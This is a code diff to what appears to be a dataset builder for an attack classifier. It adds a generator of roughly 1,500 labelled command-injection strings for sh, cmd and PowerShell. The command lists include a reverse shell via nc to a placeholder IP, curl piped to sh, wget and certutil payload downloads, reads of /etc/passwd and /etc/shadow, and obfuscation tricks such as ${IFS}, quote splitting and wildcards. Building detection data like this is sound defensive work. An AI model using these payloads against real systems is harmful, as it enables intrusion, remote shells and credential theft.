@@ -325,6 +325,45 @@ def traversal_matrix():
     return out
 
 
+def cmdi_matrix():
+    """Made by us from the grammars of sh, cmd and PowerShell (not from any payload list): a command
+    appended to a value in every context an application may put it (bare, after data, inside a
+    single or double quote that is closed first), by every separator and substitution, spelt
+    plainly and with the shell's own ways of hiding a word (quotes inside it, backslashes, empty
+    expansions, ${IFS} for blanks, wildcards, brace expansion), ended as it may need (a comment,
+    a re-opened quote); 1,500 of them drawn."""
+    unix = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la /", "echo W4X$((7*6))", "sleep 5",
+            "ping -c 5 127.0.0.1", "wget http://203.0.113.9/x -O /tmp/x", "curl http://203.0.113.9/x|sh",
+            "nslookup probe.example.net", "/bin/cat /etc/hosts", "env", "ps aux", "head -n 1 /etc/shadow",
+            "expr 7 + 6", "echo W4X$(echo 42)W4X", "nc -e /bin/sh 203.0.113.9 4444", "sh -c id",
+            "perl -e 'print 42'", "python3 -c 'import os'"]
+    hidden = ["c''at /etc/passwd", 'c""at /etc/passwd', "c\\at /etc/passwd", "ca$u't' /etc/passwd",
+              "$u/bin$u/cat$u $u/etc$u/passwd$u", "cat${IFS}/etc/passwd", "cat$IFS$9/etc/passwd",
+              "{cat,/etc/passwd}", "/???/c?t /???/p??s??", "cat</etc/passwd", "w'h'o'am'i", 'wh""oami',
+              "who$@ami", "who\\ami", "/usr/bin/wh?ami", "i\\d", "$(printf 'id')", "`echo id`",
+              "sl${u}eep 5", "${PATH:0:1}etc${PATH:0:1}passwd"]
+    windows = ["dir", "dir c:\\", "type C:\\Windows\\win.ini", "ver", "whoami /all", "ipconfig /all",
+               "net user", "systeminfo", "tasklist", "timeout /t 5", "ping -n 5 127.0.0.1",
+               "cmd /c dir", "cmd.exe /c whoami", "powershell -enc SQBFAFgA", "powershell -c Get-Process",
+               "set", "echo %USERNAME%", "who^ami", "c^md /c di^r", "certutil -urlcache -f http://203.0.113.9/x x"]
+    before = ["", "1", "127.0.0.1", "alex", "x'", 'x"', "'", '"', "1)", "x')", 'x")']
+    seps = [";", " ; ", "|", " | ", "||", "&", " & ", "&&", " && ", "\n", "\r\n", "%0a", "$(", "`", "\n\n"]
+    after = ["", "#", " #", ";", " &", "|", "'", '"', " ;'", " #'", "\n"]
+    out = []
+    for b in before:
+        for s in seps:
+            for c in unix + hidden + windows:
+                for a in after:
+                    if s == "$(":
+                        body = b + "$(" + c + ")"
+                    elif s == "`":
+                        body = b + "`" + c + "`"
+                    else:
+                        body = b + s + c
+                    out.append(body + a)
+    return out
+
+
 def half(path, want):
     """The fixed split of a source whose files go to both sets: by the first hex digit of the sha1 of
     the file's path inside its package, even to training, odd to test; decided before any was read."""
@@ -495,6 +534,7 @@ def training(out, root, blns_txt, repo):
     emit(out, "train", "wfuzz/Injections/Traversal.txt", "path_traversal", "attack",
          lines(os.path.join(wf, "Injections/Traversal.txt")), ("file", "path"))
     emit(out, "train", "traversal matrix (made by us)", "path_traversal", "attack", traversal_matrix(), ("file",))
+    emit(out, "train", "command matrix (made by us)", "cmdi", "attack", cmdi_matrix(), ("query", "form", "json"))
     emit(out, "train", "wfuzz/vulns/sql_inj.txt", "sqli", "attack", lines(os.path.join(wf, "vulns/sql_inj.txt")),
          ("query", "form", "json"))
     for cls, label, vals in blns(blns_txt):
